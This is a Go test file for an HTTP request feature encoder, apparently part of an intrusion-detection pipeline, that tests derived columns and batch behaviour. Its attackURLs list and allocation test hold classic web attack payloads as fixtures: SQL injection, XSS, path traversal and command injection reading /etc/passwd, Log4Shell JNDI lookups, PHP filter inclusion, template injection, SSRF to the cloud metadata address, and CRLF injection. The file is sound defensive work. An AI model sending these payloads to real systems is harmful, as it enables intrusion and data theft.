package feature

import (
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/tiercel/tiercel/core/event"
)

// requestOf makes a batch of one HTTP event with these texts.
func requestOf(texts map[event.TextField]string) *event.Batch {
	b := &event.Batch{}
	addRequest(b, texts)
	return b
}

func addRequest(b *event.Batch, texts map[event.TextField]string) *event.Event {
	var e event.Event
	e.Reset()
	e.Kind = event.HTTP
	for f := event.TextField(0); f < event.NumText; f++ {
		if s, ok := texts[f]; ok {
			e.Text[f] = b.Append([]byte(s))
		}
	}
	b.Events = append(b.Events, e)
	return &b.Events[len(b.Events)-1]
}

// encodeHTTP encodes one request and returns its row and texts.
func encodeHTTP(t testing.TB, h *HTTP, texts map[event.TextField]string) (*Batch, Observation) {
	t.Helper()
	var dst Batch
	var obs []Observation
	var s Scratch
	h.Encode(&dst, &obs, requestOf(texts), &s)
	return &dst, obs[0]
}

func httpColumn(t testing.TB, h *HTTP, b *Batch, name string) float32 {
	t.Helper()
	i := h.Schema().Column(name)
	if i < 0 {
		t.Fatalf("no column %q", name)
	}
	return b.Row(0)[i]
}

func TestHTTPSchema(t *testing.T) {
	s := NewHTTP().Schema()
	seen := map[string]bool{}
	for _, n := range s.Names {
		if n == "" || seen[n] {
			t.Errorf("column %q is unnamed or twice there", n)
		}
		seen[n] = true
	}
	if got, want := s.Names[s.Stateless:], ContextNames(event.HTTP); !slices.Equal(got, want) {
		t.Errorf("context columns %v, want %v", got, want)
	}
	if s.Stateless != numColumns+len(pathLexicals)+numLexical+len(headerLexicals) {
		t.Errorf("%d stateless columns", s.Stateless)
	}
}

const (
	browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	// line is what a combined log's line of 225 bytes leaves to encode.
	lineURL      = "/shop/list.php?category=12&sort=price_asc&q=red+shoes"
	lineReferrer = "https://www.example.com/shop/"
)

func lineEvent() map[event.TextField]string {
	return map[event.TextField]string{
		event.SourceIP: "203.0.113.7", event.Method: "GET", event.URL: lineURL,
		event.Referrer: lineReferrer, event.UserAgent: browser,
	}
}

func TestHTTPColumns(t *testing.T) {
	h := NewHTTP()
	tests := []struct {
		name   string
		texts  map[event.TextField]string
		column string
		want   float64
	}{
		{"method", map[event.TextField]string{event.Method: "POST", event.URL: "/"}, "http.method.post", 1},
		{"unusual method", map[event.TextField]string{event.Method: "PROPFIND", event.URL: "/"}, "http.method.other", 1},
		{"no method", map[event.TextField]string{event.Payload: "x"}, "http.method.get", math.NaN()},
		{"no status", map[event.TextField]string{event.URL: "/"}, "http.status.2xx", math.NaN()},
		{"depth", map[event.TextField]string{event.URL: "/a/b/c"}, "url.depth", 2},
		{"asset", map[event.TextField]string{event.URL: "/a/logo.PNG?v=3"}, "url.asset", 1},
		{"script", map[event.TextField]string{event.URL: "/a/index.php"}, "url.script", 1},
		{"hidden", map[event.TextField]string{event.URL: "/.git/config"}, "url.hidden", 1},
		{"well known is not hidden", map[event.TextField]string{event.URL: "/.well-known/acme-challenge/x"}, "url.hidden", 0},
		{"proxy", map[event.TextField]string{event.URL: "http://example.com/a"}, "http.proxy", 1},
		{"another protocol", map[event.TextField]string{event.URL: "\x16\x03\x01"}, "http.no_target", 1},
		{"no target", map[event.TextField]string{event.Payload: "x"}, "url.length", math.NaN()},
		{"parameters", map[event.TextField]string{event.URL: "/?a=1&b=&c=3"}, "param.count", 2},
		{"odd name", map[event.TextField]string{event.URL: "/?user[$ne]=1"}, "param.odd_names", 1},
		{"brackets are no odd name", map[event.TextField]string{event.URL: "/?ids%5B%5D=1&ids[]=2"}, "param.odd_names", 0},
		{"quotes", map[event.TextField]string{event.URL: "/?a=%27%27%27"}, "param.quotes", 2},
		{"the worst value counts", map[event.TextField]string{event.URL: "/?a='''&b='&c=" + strings.Repeat("abc", 900)}, "param.quotes", 2},
		{"body", map[event.TextField]string{event.URL: "/", event.Body: "a=%27%27%27"}, "param.quotes", 2},
		{"levels", map[event.TextField]string{event.URL: "/?a=%252527"}, "param.levels", 2},
		{"blanks", map[event.TextField]string{event.URL: "/?a=x+y+z+w"}, "param.blanks", 2},
		{"plus in a path is a plus", map[event.TextField]string{event.URL: "/a+b"}, "path.blanks", 0},
		{"browser", map[event.TextField]string{event.UserAgent: browser}, "agent.browser", 1},
		{"bot", map[event.TextField]string{event.UserAgent: "Mozilla/5.0 (compatible; Examplebot/2.1; +http://example.com/bot)"}, "agent.bot", 1},
		{"tool", map[event.TextField]string{event.UserAgent: "curl/8.0"}, "agent.tool", 1},
		{"no agent", map[event.TextField]string{event.URL: "/"}, "agent.tool", math.NaN()},
		{"cookie", map[event.TextField]string{event.Cookie: "a=1; id=%27%27%27"}, "header.quotes", 2},
		{"windows", map[event.TextField]string{event.Payload: strings.Repeat("abcd ", 1000)}, "http.joined", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, _ := encodeHTTP(t, h, tt.texts)
			got := float64(httpColumn(t, h, b, tt.column))
			if got != tt.want && !(math.IsNaN(got) && math.IsNaN(tt.want)) {
				t.Errorf("%s = %v, want %v", tt.column, got, tt.want)
			}
		})
	}
}

func TestHTTPStatus(t *testing.T) {
	h := NewHTTP()
	for _, tt := range []struct {
		status float64
		column string
		flags  uint32
	}{
		{200, "http.status.2xx", FlagSuccess},
		{302, "http.status.3xx", FlagSuccess},
		{403, "http.status.denied", FlagFailed | FlagDenied},
		{404, "http.status.missing", FlagFailed | FlagMissing},
		{400, "http.status.4xx", FlagFailed},
		{502, "http.status.5xx", FlagFailed},
	} {
		b := requestOf(map[event.TextField]string{event.Method: "GET", event.URL: "/a"})
		b.Events[0].Num[event.StatusCode] = tt.status
		var dst Batch
		var obs []Observation
		var s Scratch
		h.Encode(&dst, &obs, b, &s)
		if httpColumn(t, h, &dst, tt.column) != 1 || obs[0].Flags != tt.flags {
			t.Errorf("%v: %s = %v, flags %b", tt.status, tt.column, httpColumn(t, h, &dst, tt.column), obs[0].Flags)
		}
	}
}

func TestHTTPObservation(t *testing.T) {
	h := NewHTTP()
	of := func(texts map[event.TextField]string) Observation {
		_, o := encodeHTTP(t, h, texts)
		return o
	}
	get := func(url string) Observation {
		return of(map[event.TextField]string{event.SourceIP: "203.0.113.7", event.Domain: "example.com", event.Method: "GET", event.URL: url})
	}
	if a, b := get("/item/17?x=1"), get("/item/4711"); a.Item != b.Item || a.Service != b.Service || a.Entity == 0 || a.Peer == 0 {
		t.Error("pages that differ in a number are one item")
	}
	if a, b := get("/item/17"), get("/basket/17"); a.Item == b.Item || a.Service == b.Service {
		t.Error("different pages are different items")
	}
	if o := get("/a.css"); o.Flags&FlagAsset == 0 {
		t.Error("a style sheet is an asset")
	}
	login := of(map[event.TextField]string{event.Method: "POST", event.URL: "/user/Login", event.UserAgent: "x"})
	if login.Flags&FlagLogin == 0 || login.Flags&FlagWrite == 0 || login.Entity != 0 {
		t.Errorf("a POST to a login page: flags %b, entity %x", login.Flags, login.Entity)
	}
	if o := get("/login"); o.Flags&FlagLogin != 0 {
		t.Error("to see a login page is no attempt")
	}
}

func TestHTTPForeignEvents(t *testing.T) {
	h := NewHTTP()
	b := requestOf(lineEvent())
	addRequest(b, lineEvent()).Err = event.ErrFields
	addRequest(b, lineEvent()).Kind = event.DNS
	var dst Batch
	var obs []Observation
	var s Scratch
	h.Encode(&dst, &obs, b, &s)
	for i := 1; i < 3; i++ {
		if len(dst.Texts.Of(i)) != 0 || obs[i].Kind != event.KindNone {
			t.Errorf("row %d has values or an observation", i)
		}
		for c, v := range dst.Row(i) {
			if v == v {
				t.Fatalf("row %d: %s = %v, want NaN", i, h.Schema().Names[c], v)
			}
		}
	}
	if len(dst.Texts.Of(0)) == 0 || obs[0].Kind != event.HTTP {
		t.Error("the request before them was lost")
	}
}

// The same events give the same rows in batches of any size and with scratch
// memory that other requests have used.
func TestHTTPBatchesAgree(t *testing.T) {
	h := NewHTTP()
	all := &event.Batch{}
	var single []float32
	for i, u := range append(slices.Clone(attackURLs[:]), benignURLs[:]...) {
		texts := lineEvent()
		texts[event.URL] = u
		if i%3 == 0 {
			texts[event.Body] = `{"a":"` + u + `"}`
		}
		addRequest(all, texts)
		b, _ := encodeHTTP(t, h, texts)
		single = append(single, b.X...)
	}
	var dst Batch
	var obs []Observation
	var s Scratch
	for range 2 {
		h.Encode(&dst, &obs, all, &s)
		for i := range single {
			if math.Float32bits(single[i]) != math.Float32bits(dst.X[i]) {
				t.Fatalf("row %d column %s: %v alone, %v in a batch", i/dst.D, h.Schema().Names[i%dst.D], single[i], dst.X[i])
			}
		}
	}
}

var attackURLs = [...]string{
	"/item?id=1%27%20or%20%271%27=%271", "/item?id=1+union+select+1,2,3--", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E",
	"/get?file=..%2f..%2f..%2fetc%2fpasswd", "/..%c0%af..%c0%afwinnt/system32/cmd.exe", "/ping?host=127.0.0.1;cat+/etc/passwd",
	"/?x=${jndi:ldap://203.0.113.9/a}", "/?x=%24%7Bjndi%3Aldap%3A//x%7D", "/.env", "/?page=php://filter/convert.base64-encode/resource=index",
	"/?name={{7*7}}", "/?url=http://169.254.169.254/latest/meta-data/", "/a%0d%0aSet-Cookie:%20x=1",
}

var benignURLs = [...]string{
	"/", "/index.html", "/search?q=red+shoes+%26+socks", "/api/v1/items?ids[]=1&ids[]=2&fields=name,price", "/a/b/c.css?v=12",
	"/search?q=O%27Reilly", "/t?data=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%22text%22%7D", "/login?next=%2Faccount%2F",
}

func TestHTTPAllocatesNothing(t *testing.T) {
	h := NewHTTP()
	b := requestOf(lineEvent())
	for _, u := range attackURLs {
		texts := lineEvent()
		texts[event.URL] = u
		texts[event.Body] = `{"a":"b\u0027 or 1=1","c":[1,"x"]}`
		texts[event.Cookie] = "sid=abc; q=%27"
		texts[event.Headers] = "Accept: */*\nX-Api: ${jndi:ldap://x}\n"
		addRequest(b, texts)
	}
	var dst Batch
	var obs []Observation
	var s Scratch
	h.Encode(&dst, &obs, b, &s)
	if n := testing.AllocsPerRun(20, func() { h.Encode(&dst, &obs, b, &s) }); n != 0 {
		t.Errorf("%v allocations a batch, want 0", n)
	}
}

// BenchmarkHTTPEncode is one line of a combined log of 225 bytes.
func BenchmarkHTTPEncode(b *testing.B) {
	h := NewHTTP()
	batch := &event.Batch{}
	for range 256 {
		addRequest(batch, lineEvent())
	}
	var dst Batch
	var obs []Observation
	var s Scratch
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		h.Encode(&dst, &obs, batch, &s)
		n++
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(n*len(batch.Events)), "ns/event")
}

func BenchmarkHTTPNew(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		NewHTTP()
	}
}
